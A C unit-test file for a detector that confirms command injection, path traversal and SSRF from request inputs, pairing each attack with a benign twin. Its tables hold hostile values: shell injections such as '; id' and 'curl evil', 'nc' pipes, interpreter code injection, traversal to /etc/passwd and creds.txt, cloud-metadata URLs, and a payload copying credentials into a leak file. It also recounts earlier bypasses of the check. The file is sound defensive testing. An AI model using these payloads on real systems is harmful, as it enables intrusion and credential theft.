/* Unit tests for policy/payload/confirm.c: (argument, input values) ->
 * confirmed finding or none, for execs (sh -c, interpreter -c/-e, the
 * program), paths and connects. Table-driven; each attack has a benign twin. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "policy/payload/confirm.h"
#include "policy/payload/walk.h"

struct exec_case {
	const char *value;
	const char *program;
	const char *argv[6];
	bool want;
};

static const struct exec_case exec_cases[] = {
	/* os.system("ping -c1 " + host) */
	{ "127.0.0.1; id", "/bin/sh", { "sh", "-c", "ping -c1 127.0.0.1; id" }, true },
	{ "127.0.0.1", "/bin/sh", { "sh", "-c", "ping -c1 127.0.0.1" }, false },
	{ "x && curl evil", "/bin/sh", { "sh", "-c", "echo x && curl evil" }, true },
	{ "a|nc h 1", "/bin/bash", { "bash", "-c", "grep a|nc h 1 f" }, true },
	{ "$(id)", "/bin/sh", { "sh", "-c", "echo $(id)" }, true },
	{ "`id`", "/bin/sh", { "sh", "-c", "echo `id`" }, true },
	{ "x > /tmp/o", "/bin/sh", { "sh", "-c", "echo x > /tmp/o" }, true },
	{ "a\nid", "/bin/sh", { "sh", "-c", "echo a\nid" }, true },
	/* inside one quoted word: no change */
	{ "127.0.0.1; id", "/bin/sh", { "sh", "-c", "ping -c1 '127.0.0.1; id'" }, false },
	{ "a | b", "/bin/sh", { "sh", "-c", "echo \"a | b\"" }, false },
	{ "a\\;b", "/bin/sh", { "sh", "-c", "echo a\\;b" }, false },
	/* double quotes still expand $( and ` */
	{ "$(id)", "/bin/sh", { "sh", "-c", "echo \"$(id)\"" }, true },
	/* the value closes the quotes around it */
	{ "x'; id; echo '", "/bin/sh", { "sh", "-c", "echo 'x'; id; echo ''" }, true },
	/* the value is the command */
	{ "whoami", "/bin/sh", { "sh", "-lc", "whoami" }, true },
	{ "report.txt", "/bin/sh", { "sh", "-c", "wc -l report.txt" }, false },
	/* a command word partly from the value is not the value naming it */
	{ "ping", "/bin/sh", { "sh", "-c", "pingx -c1 h" }, false },
	/* interpreters */
	{ "x'); import os; os.system('id'); print('", "/usr/bin/python3",
	  { "python3", "-c", "print('x'); import os; os.system('id'); print('')" }, true },
	{ "hello world", "/usr/bin/python3", { "python3", "-c", "print('hello world')" }, false },
	{ "1;system('id')", "/usr/bin/perl", { "perl", "-e", "print 1;system('id')" }, true },
	/* code opened inside an interpolating literal (attack round 6) */
	{ "{__import__(\"os\").system(\"id\")}", "/usr/bin/python3",
	  { "python3", "-c", "print(f'{__import__(\"os\").system(\"id\")}')" }, true },
	{ "${require(\"fs\").rmSync(\"x\")}", "/usr/bin/node",
	  { "node", "-e", "console.log(`${require(\"fs\").rmSync(\"x\")}`)" }, true },
	{ "hello {{name}}", "/usr/bin/python3", { "python3", "-c", "print(f'hello {{name}}')" }, false },
	{ "hello world", "/usr/bin/node", { "node", "-e", "console.log(`hello world`)" }, false },
	{ "{not code}", "/usr/bin/python3", { "python3", "-c", "print('{not code}')" }, false },
	/* the program itself */
	{ "/usr/bin/id", "/usr/bin/id", { "/usr/bin/id" }, true },
	{ "convert", "/usr/local/bin/convert", { "convert", "a.png" }, true },
	{ "a.png", "/usr/bin/convert", { "convert", "a.png", "b.jpg" }, false },
	/* JSON literals and numbers are not taken for commands */
	{ "true", "/bin/sh", { "sh", "-c", "ping -c1 h; true" }, false },
	{ "12345", "/bin/sh", { "sh", "-c", "12345" }, false },
	/* short values are not matched */
	{ ";id", "/bin/sh", { "sh", "-c", "echo;id" }, true },
	{ "ab", "/bin/sh", { "sh", "-c", "ab;cd" }, false },
};

static void exec_table(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(exec_cases) / sizeof(exec_cases[0]); i++) {
		const struct exec_case *c = &exec_cases[i];
		const char *pairs[] = { "$.v", c->value };
		struct fng_confirm_set *s = fng_confirm_set_of(pairs, 1, "r");
		struct fng_confirm_finding f = { 0 };
		size_t argc = 0;
		while (argc < 6 && c->argv[argc])
			argc++;
		bool got = fng_confirm_exec(s, c->program, c->argv, argc, &f);
		if (got != c->want)
			fail_msg("exec case %zu (%s): got %d", i, c->value, got);
		if (got)
			assert_string_equal(f.input_path, "$.v");
		fng_confirm_set_free(s);
	}
}

struct path_case {
	const char *value;
	const char *path;
	bool want;
};

static const struct path_case path_cases[] = {
	/* open("/var/task/data/" + file) */
	{ "../../etc/passwd", "/var/task/data/../../etc/passwd", true },
	{ "report.txt", "/var/task/data/report.txt", false },
	{ "sub/../report.txt", "/var/task/data/sub/../report.txt", false },
	{ "sub/../../x", "/var/task/data/sub/../../x", true },
	{ "/etc/passwd", "/etc/passwd", true },
	/* the kernel reads "//" as "/": still under data */
	{ "/etc/passwd", "/var/task/data//etc/passwd", false },
	/* a partial component: "img_.." is a name, not ".." */
	{ "../x", "/data/img_../x", false },
	{ "..", "/data/x/..", true },
	/* relative: out of the working directory */
	{ "../secret", "../secret", true },
	{ "notes.md", "notes.md", false },
	{ "a/./b//c", "files/a/./b//c.txt", false },
	/* suffix after the value */
	{ "../..", "/srv/up/../../etc/x.conf", true },
	/* resolved by the function before the call (Node's path.resolve(dir, v)) */
	{ "../creds.txt", "/var/task/creds.txt", true },
	{ "a/../../../etc/passwd", "/etc/passwd", true },
	{ "../creds.txt", "/var/task/data/report.txt", false },
	{ "../creds.txt", "/var/task/mycreds.txt", false }, /* a longer name, not the one reached */
	{ "sub/../report.txt", "/var/task/data/report.txt", false }, /* never leaves */
	{ "..", "/var/task", false },
};

static void path_table(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(path_cases) / sizeof(path_cases[0]); i++) {
		const struct path_case *c = &path_cases[i];
		const char *pairs[] = { "$.file", c->value };
		struct fng_confirm_set *s = fng_confirm_set_of(pairs, 1, "r");
		struct fng_confirm_finding f = { 0 };
		bool got = fng_confirm_path(s, c->path, &f);
		if (got != c->want)
			fail_msg("path case %zu (%s in %s): got %d", i, c->value, c->path, got);
		fng_confirm_set_free(s);
	}
}

struct net_case {
	const char *value;
	const char *addr;
	const char *name;
	bool want;
	uint16_t port;	/* 0: 80 */
};

static const struct net_case net_cases[] = {
	{ "http://127.0.0.1:8081/x", "127.0.0.1", NULL, true, 8081 },
	{ "http://169.254.169.254/latest/meta-data/", "169.254.169.254", NULL, true, 0 },
	{ "http://[fd00:ec2::254]/latest", "fd00:ec2::254", NULL, true, 0 },
	{ "http://2130706433/", "127.0.0.1", NULL, true, 0 },
	{ "http://user@Internal.Example.:80/", "10.0.0.5", "internal.example", true, 0 },
	{ "internal.example:8443", "10.0.0.5", "internal.example", true, 8443 },
	{ "127.0.0.1", "127.0.0.1", NULL, true, 0 },
	/* a URL path fetched from a fixed host */
	{ "users/42", "93.184.216.34", "api.example.com", false, 0 },
	{ "http://127.0.0.1/", "93.184.216.34", "api.example.com", false, 0 },
	{ "hello world", "127.0.0.1", NULL, false, 0 },
	{ "https://api.example.com/users", "93.184.216.34", "api.example.com", true, 443 },
	/* the port a URL names (or its scheme's) must be the one connected to */
	{ "http://127.0.0.1:8081/x", "127.0.0.1", NULL, false, 9001 },
	{ "https://api.example.com/users", "93.184.216.34", "api.example.com", false, 0 },
	{ "127.0.0.1:6379", "127.0.0.1", NULL, true, 6379 },
	{ "[::1]:6379", "::1", NULL, true, 6379 },
	{ "localhost", "127.0.0.1", "localhost", true, 443 },
	/* a host without a port: only the web's ports */
	{ "localhost", "127.0.0.1", "localhost", false, 5432 },
	{ "127.0.0.1", "127.0.0.1", NULL, false, 9001 },
	/* a bare number is not taken for an address */
	{ "2130706433", "127.0.0.1", NULL, false, 0 },
	/* localhost and names under it resolve from /etc/hosts: no DNS answer
	 * to learn, loopback all the same (RFC 6761) */
	{ "http://localhost:18231/", "127.0.0.1", NULL, true, 18231 },
	{ "http://LOCALHOST:18231/", "127.0.0.1", NULL, true, 18231 },
	{ "http://api.localhost./x", "::1", NULL, true, 80 },
	{ "http://localhost:18231/", "10.0.0.5", NULL, false, 18231 },
	{ "http://notlocalhost:18231/", "127.0.0.1", NULL, false, 18231 },
};

static void to16(const char *a, uint8_t out[16])
{
	struct in_addr a4;

	if (inet_pton(AF_INET, a, &a4) == 1) {
		memset(out, 0, 10);
		out[10] = out[11] = 0xff;
		memcpy(out + 12, &a4, 4);
	} else {
		assert_int_equal(inet_pton(AF_INET6, a, out), 1);
	}
}

static void net_table(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(net_cases) / sizeof(net_cases[0]); i++) {
		const struct net_case *c = &net_cases[i];
		const char *pairs[] = { "$.url", c->value };
		struct fng_confirm_set *s = fng_confirm_set_of(pairs, 1, "r");
		struct fng_confirm_finding f = { 0 };
		uint8_t a[16];
		to16(c->addr, a);
		bool got = fng_confirm_connect(s, a, c->port ? c->port : 80, c->name, &f);
		if (got != c->want)
			fail_msg("net case %zu (%s): got %d", i, c->value, got);
		fng_confirm_set_free(s);
	}
}

/* From a walked API Gateway event: the decoded body's value, its path. */
static void from_walker(void **state)
{
	const char *ev = "{\"requestContext\":{\"http\":{}},\"routeKey\":\"POST /\",\"body\":"
			 "\"{\\\"host\\\":\\\"127.0.0.1; id\\\",\\\"n\\\":\\\"ab\\\"}\"}";
	struct fng_pwalk_list l;
	struct fng_confirm_finding f = { 0 };
	const char *argv[] = { "sh", "-c", "ping -c1 127.0.0.1; id" };

	(void)state;
	assert_int_equal(fng_pwalk(ev, strlen(ev), NULL, &l), 0);
	struct fng_confirm_set *s = fng_confirm_set_build(&l, "req-1");
	fng_pwalk_free(&l);
	assert_non_null(s);
	assert_string_equal(s->request_id, "req-1");
	for (size_t i = 0; i < s->n; i++)
		assert_true(s->v[i].len >= FNG_CONFIRM_MIN_LEN);
	assert_true(fng_confirm_exec(s, "/bin/sh", argv, 3, &f));
	assert_string_equal(f.input_path, "$.body.host");
	/* syntax outranks a word matched by chance: "true" is also a value */
	fng_confirm_set_free(s);
	const char *pairs[] = { "$.ok", "true", "$.host", "127.0.0.1; id" };
	const char *argv2[] = { "sh", "-c", "ping -c1 127.0.0.1; id; true" };
	s = fng_confirm_set_of(pairs, 2, "r");
	assert_true(fng_confirm_exec(s, "/bin/sh", argv2, 3, &f));
	assert_string_equal(f.input_path, "$.host");
	fng_confirm_set_free(s);
}

/* Attack round 10 (confirm_pad): 600 ordinary values before the payload,
 * or one value longer than 4096 bytes, switched the check off. Every
 * value is tracked now, of any length an argument can hold. */
static void every_value(void **state)
{
	enum { N = 20000 };
	const char **pairs = calloc(2 * (N + 1), sizeof(*pairs));
	char (*vals)[16] = calloc(N, sizeof(*vals));
	struct fng_confirm_finding f = { 0 };
	const char *payload = "127.0.0.1 >/dev/null; cp creds.txt docs/leak.txt";
	char cmd[256];

	(void)state;
	assert_non_null(pairs);
	assert_non_null(vals);
	for (size_t i = 0; i < N; i++) {
		/* the attacker's shape: every value shares a prefix with the payload */
		snprintf(vals[i], sizeof(vals[i]), "127.0.%zu", i);
		pairs[2 * i] = "$.pad";
		pairs[2 * i + 1] = vals[i];
	}
	pairs[2 * N] = "$.host";
	pairs[2 * N + 1] = payload;
	snprintf(cmd, sizeof(cmd), "ping -c 1 %s", payload);
	const char *argv[] = { "/bin/sh", "-c", cmd };
	struct fng_confirm_set *s = fng_confirm_set_of(pairs, N + 1, "r");
	assert_non_null(s);
	assert_false(s->incomplete);
	assert_int_equal(s->n, N + 1);
	assert_true(fng_confirm_exec(s, "/bin/sh", argv, 3, &f));
	assert_string_equal(f.input_path, "$.host");
	const char *argv_ok[] = { "/bin/sh", "-c", "ping -c 1 127.0.0.1" };
	assert_false(fng_confirm_exec(s, "/bin/sh", argv_ok, 3, &f));
	assert_true(fng_confirm_path(s, "/var/task/docs/../creds.txt", &f) == false);
	fng_confirm_set_free(s);
	free(pairs);
	free(vals);
}

static void long_values(void **state)
{
	size_t n = 100000;
	char *v = malloc(n + 1), *cmd = malloc(n + 32);
	struct fng_confirm_finding f = { 0 };

	(void)state;
	strcpy(v, "127.0.0.1 >/dev/null; cp creds.txt docs/leak2.txt #");
	memset(v + strlen(v), 'A', n - strlen(v));
	v[n] = '\0';
	snprintf(cmd, n + 32, "ping -c 1 %s", v);
	const char *pairs[] = { "$.host", v };
	const char *argv[] = { "/bin/sh", "-c", cmd };
	struct fng_confirm_set *s = fng_confirm_set_of(pairs, 1, "r");
	assert_true(fng_confirm_exec(s, "/bin/sh", argv, 3, &f));
	assert_string_equal(f.input_path, "$.host");
	fng_confirm_set_free(s);
	/* a long URL still names its host */
	memcpy(v, "http://169.254.169.254/", 23);
	s = fng_confirm_set_of(pairs, 1, "r");
	uint8_t a[16] = { 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 169, 254, 169, 254 };
	assert_true(fng_confirm_connect(s, a, 80, NULL, &f));
	fng_confirm_set_free(s);
	free(v);
	free(cmd);
}

/* A set that does not hold every value refuses every call it is asked
 * about, naming no input and saying why. */
static void untracked(void **state)
{
	const char *ev = "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]"
			 "]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]";
	struct fng_pwalk_list l;
	struct fng_confirm_finding f = { 0 };
	const char *argv[] = { "/bin/true" };
	uint8_t a[16] = { 0 };

	(void)state;
	assert_int_equal(fng_pwalk(ev, strlen(ev), NULL, &l), 0);
	assert_true(l.limit);
	struct fng_confirm_set *s = fng_confirm_set_build(&l, "r");
	fng_pwalk_free(&l);
	assert_non_null(s);
	assert_true(s->incomplete);
	assert_true(fng_confirm_exec(s, "/bin/true", argv, 1, &f));
	assert_null(f.input_path);
	assert_non_null(strstr(f.why, "not all tracked"));
	assert_true(fng_confirm_path(s, "/etc/hosts", &f));
	assert_true(fng_confirm_connect(s, a, 443, NULL, &f));
	fng_confirm_set_free(s);
}

/* Many values occurring in one path: examined up to a bound, then refused. */
static void path_occurrences(void **state)
{
	enum { N = 2000 };
	char *vals = calloc(N, N + 1);
	const char **pairs = calloc(2 * N, sizeof(*pairs));
	char path[N + 8];
	struct fng_confirm_finding f = { 0 };

	(void)state;
	for (size_t i = 0; i < N; i++) {
		memset(vals + i * (N + 1), 'a', i + 3 > N ? N : i + 3);
		pairs[2 * i] = "$.a";
		pairs[2 * i + 1] = vals + i * (N + 1);
	}
	struct fng_confirm_set *s = fng_confirm_set_of(pairs, N, "r");
	assert_false(s->incomplete);
	memset(path, 'a', N);
	path[N] = '\0';
	assert_true(fng_confirm_path(s, path, &f));
	assert_null(f.input_path);
	assert_non_null(strstr(f.why, "too many"));
	assert_false(fng_confirm_path(s, "aaaa", &f));
	fng_confirm_set_free(s);
	free(vals);
	free(pairs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(exec_table),
		cmocka_unit_test(path_table),
		cmocka_unit_test(net_table),
		cmocka_unit_test(from_walker),
		cmocka_unit_test(every_value),
		cmocka_unit_test(long_values),
		cmocka_unit_test(untracked),
		cmocka_unit_test(path_occurrences),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
